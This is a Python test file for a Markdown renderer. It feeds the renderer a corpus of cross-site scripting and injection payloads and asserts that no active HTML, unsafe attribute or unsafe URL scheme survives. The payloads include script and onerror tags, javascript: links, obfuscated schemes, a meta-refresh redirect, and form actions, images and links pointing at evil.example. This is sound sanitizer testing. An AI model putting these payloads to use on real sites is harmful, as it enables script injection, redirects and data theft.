"""D01, D03, D04: what people write in Markdown can do nothing but be read."""

import re

import pytest

from portal.webkit.markdown import render, words

CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=https://evil.example><input name=p></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/x)",
    "[x](/\\evil.example)",
    "[x](file:///etc/passwd)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "[x](https://ok.example/\"onmouseover='alert(1)')",
    "![x](https://evil.example/track.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
    "![x](/files/other/)",
    "![x](/admin/logout/)",
    '![" onerror="alert(1)](故障.png)',
    "```<script>alert(1)</script>```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
]
#: What a browser could act on: elements and attributes that are not words.
ACTIVE = re.compile(
    r"<(?!/?(?:p|br|hr|h[2-6]|strong|em|s|code|pre|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|a|img)\b)", re.I
)
TAG = re.compile(r"<(\w+)([^>]*)>")


@pytest.mark.parametrize("text", CORPUS)
def test_d01_nothing_in_it_acts(text):
    html = render(text, {"故障.png": "/files/own/"})
    assert not ACTIVE.search(html), html
    for tag, attributes in TAG.findall(html):
        # A value may hold anything, quoted; outside the quotes stand names only.
        names = set(re.findall(r"([\w-]+)=", re.sub(r'"[^"]*"', '""', attributes)))
        assert names <= {"href", "title", "src", "alt", "start", "rel"}, html
        for address in re.findall(r'href="([^"]*)"', attributes):
            assert re.match(r"https?://|mailto:|tel:|/(?![/\\])", address), html
        for address in re.findall(r'src="([^"]*)"', attributes):
            assert address == "/files/own/", html
        assert tag != "script"


def test_pictures_are_files_of_the_article_by_name_or_address():
    own = {"故障 图.png": "/files/own/"}
    assert '<img src="/files/own/" alt="枪头">' in render("![枪头](<故障 图.png>)", own)
    assert '<img src="/files/own/" alt="枪头">' in render("![枪头](/files/own/)", own)
    assert render("![枪头](别的.png)", own) == "<p>枪头</p>\n"


def test_what_articles_need_is_there():
    html = render(
        "# 步骤\n\n1. 断电\n2. 测量\n\n| 项目 | 值 |\n|---|---|\n| 绝缘 | 2 MΩ |\n\n**注意** [手册](https://ok.example)"
    )
    for piece in ("<h2>步骤</h2>", "<ol>", "<td>绝缘</td>", "<strong>注意</strong>", 'rel="noopener noreferrer"'):
        assert piece in html
    assert render("第一行\n第二行") == "<p>第一行<br>\n第二行</p>\n"


def test_words_are_the_text_without_marks():
    assert words("## 步骤\n- **断电** [手册](https://x.example)").split() == ["步骤", "断电", "手册"]
